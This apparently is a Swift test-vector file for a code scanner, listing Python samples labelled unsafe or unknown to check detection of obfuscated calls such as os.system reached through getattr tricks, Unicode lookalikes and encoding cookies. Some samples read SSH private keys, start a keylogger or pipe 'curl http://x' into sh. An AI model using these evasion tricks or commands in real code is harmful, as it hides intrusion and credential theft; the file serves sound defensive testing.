// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletEvidence

@testable import MartletScan

/// Python source that begins like something else, is longer than anybody looks at, or says what it calls in a roundabout way.
extension TextVector {
  static let python: [TextVector] = beginnings + walks + effects

  private static let payload = "import os\nos.system('id')\n"

  /// Every one of these is a line of Python, whatever it looks like.
  private static let beginnings: [TextVector] = [
    "-1", "+1", "~1", "*a, b = 1, 2", ".5", "x, = [1]", "...", "1if 1else 2", "0x1for x in [1]", "\\\n-1",
    "1,",
    "{\"a\": 1}", "{# x\n}", "{{1: 2} if 0 else 1}", "[\"a\", \"b\"]", "repr(1)", "V = float('1')",
    "x = chr(97)", "__name__", "__file__",
    "ValueError",
    "staticmethod", "global x\nx = 1", "print 'x'", "print", "exec 'pass'", "if 1: print 'x'",
    "x = 5 if 1 else 6",
    "a: int = 1", "x[...] = 1" + "\nx = {}", "(yield_ := 1)", "lambda *a: 0", "type X = int",
    "def f[T](x: T) -> T: ...",
    "class A[T]: pass", "def f(a, /, *, b=1): pass", "async def f(): pass",
    "match 1:\n  case {\"x\": 1} | [1, *_]: pass",
    "f'{1:>{2}}' f\"{'}'}\" ", "try:\n  undefined\nexcept* ValueError:\n  pass", "x = 1_000.0e-3j",
    "undefined_name",
    "\"\"\"\n```\nx\n```\n# Title\n[a](b)\n\"\"\"", "# Title\n# [a](b)\n## two", "---x",
    "@staticmethod\ndef f(): pass",
    "assert 1, (2,\n # comment (\n 3)", "\u{0C}x = 1", "with open(__file__) as f: pass", "import a.b as c, d",
    "from . import x", "from .a import (b, c as d,)", "a = b = c = 1",
    "x = [i for i in range(3) if i not in (1, 2)]",
    "raise_ = 0; x = not 1", "#" + String(repeating: "x", count: 70_000),
    "x = [" + String(repeating: "1,\n", count: 20_000) + "]",
    "'''" + String(repeating: "word\n", count: 20_000) + "'''",
  ].enumerated().map { .init("p_begin\($0.offset).py", .unsafe, $0.element + "\n" + payload) }

  private static let walks: [TextVector] = [
    "import sys\nsys.modules['os'].system('id')\n", "import os\nos.__dict__['system']('id')\n",
    "import os\nvars(os)['sys' + 'tem']('id')\n", "import os\ngetattr(os, '\\x73ystem')('id')\n",
    "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "import os\ngetattr(os, name)('id')\n",
    "from os import *\nsystem('id')\n", "__builtins__['ev' + 'al']('1')\n",
    "globals()['__builtins__'].eval('1')\n",
    "import importlib\nimportlib.import_module('os').system('id')\n",
    "x = f\"{__import__('os').system('id')}\"\n",
    "x = f'{__import__('os').system('id')!r:>{10}}'\n", "{\"a\": __import__(\"os\").system(\"id\")}\n",
    "[\"a\", __import__(\"os\").system(\"id\")]\n", "\u{1D626}\u{1D639}\u{1D626}\u{1D624}('import os')\n",
    "import os\n\u{FF4F}\u{FF53}.\u{FF53}\u{FF59}\u{FF53}\u{FF54}\u{FF45}\u{FF4D}('id')\n",
    "().__class__.__base__.__subclasses__()[0]('id')\n", "import os\ndef f(x=os.system('id')): pass\n",
    "import os\nlist(map(os.system, ['id']))\n", "import os\n@os.system\ndef f(): pass\n",
    "---\na: b\n---\nimport os\nos.system('id')\n", "import builtins as b\nb.exec('x')\n",
  ].enumerated().map { .init("p_walk\($0.offset).py", .unsafe, $0.element) }

  private static let effects: [TextVector] = [
    .init("p_utf7.py", .unsafe, "# coding: utf-7\n#+AAo-import os+AAo-os.system('id')+AAo-#\n"),
    .init("p_escape.py", .unsafe, "#!/usr/bin/python\n# -*- coding: unicode_escape -*-\n# \\nimport os\n"),
    .init("p_raw.py", .unsafe, "# vim: set fileencoding=raw_unicode_escape :\n#\\u000aimport os\n"),
    .init("p_ascii.py", .unknown, "# -*- coding: utf-8 -*-\nimport os\n"),
    .init("p_spread.py", .unsafe, "import requests\ndef main():\n    requests.post('http://x')\n\nmain()\n"),
    .init(
      "p_deep.py", .unsafe,
      "import requests\ndef a():\n    requests.post('http://x')\ndef b():\n    a()\nb()\n"),
    .init("p_uncalled.py", .unknown, "import requests\ndef main():\n    requests.post('http://x')\n"),
    .init(
      "p_guard.py", .unknown, "import requests\nif __name__ == '__main__':\n    requests.get('http://x')\n"),
    .init(
      "p_thread.py", .unsafe,
      "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n"),
    .init("p_write.py", .unsafe, "open('/tmp/x', 'w').write('x')\n"),
    .init("p_out.py", .unknown, "with open('out.json', 'w') as f:\n    f.write('x')\n"),
    .init("p_path.py", .unsafe, "from pathlib import Path\nPath('~/x').expanduser().write_text('y')\n"),
    .init(
      "p_spec.py", .unsafe, "import importlib.util as u\nm = u.find_spec('a')\nm.loader.exec_module(m)\n"),
    .init("p_keys.py", .unsafe, "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n"),
    .init(
      "p_secret.py", .unsafe,
      "import glob\nfor f in glob.glob('/root/.ssh/id_rsa'):\n    print(open(f).read())\n"),
    .init("p_shell.py", .unsafe, "import fabric\ndef deploy(c):\n    c.run('curl http://x | sh')\n"),
    .init(
      "p_template.py", .unsafe,
      "from jinja2 import Template\nprint(Template('{{ ().__class__ }}').render())\n"),
    .init("p_ipython.py", .unsafe, "c.InteractiveShellApp.exec_lines = ['import x']\n"),
    .init("p_broken.py", .unsafe, "import os\nimport sys\nos.system('id')\nx = = 1\nprint(sys.argv)\n"),
    // Functions of the file's own, methods and arguments only have the names.
    .init("p_own.py", .unknown, "def eval(model):\n    return model\n\nprint(eval(1))\n"),
    .init("p_method.py", .unknown, "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\n"),
    .init("p_argument.py", .unknown, "def train(eval=True):\n    return dict(exec=eval)\n"),
    .init("p_platform.py", .unknown, "import platform\nprint(platform.system())\n"),
    .init("p_ctypes.py", .unknown, "import ctypes\nx = ctypes.c_int(1)\n"),
    .init("p_lazy.py", .unknown, "def __getattr__(name):\n    return globals()[name]\n"),
  ]
}
